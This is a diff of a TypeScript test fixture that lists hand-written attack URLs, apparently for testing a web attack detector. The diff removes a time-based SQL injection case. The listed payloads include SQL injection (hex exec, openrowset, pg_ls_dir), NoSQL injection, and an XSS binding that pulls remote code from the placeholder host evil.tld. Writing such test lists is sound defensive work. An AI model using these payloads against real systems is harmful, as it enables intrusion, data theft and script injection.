@@ -398,7 +398,6 @@ export const ATTACKS_BY_HAND: readonly HandWritten[] = [
   { name: 'sqli statement in hex', url: '/x?id=declare @q varchar(200) select @q = 0x77616974666f72 exec(@q)' },
   { name: 'sqli openrowset', url: "/x?q=select * from openrowset('sqloledb','server';'sa';'pw','select 1')" },
   { name: 'sqli folder of postgres', url: "/x?id=1; select pg_ls_dir('.')" },
-  { name: 'sqli term that waits', url: '/x?id=1-sleep(5)' },
   { name: 'nosql negation alone', url: '/x?user={ $ne: 1 }' },
   { name: 'nosql loop', url: "/x?user=a';it=new Date();do{pt=new Date();}while(pt-it<5000);'" },
   { name: 'xss binding', url: '/x?q=<div style="-moz-binding:url(http://evil.tld/x.xml%23x)">' },
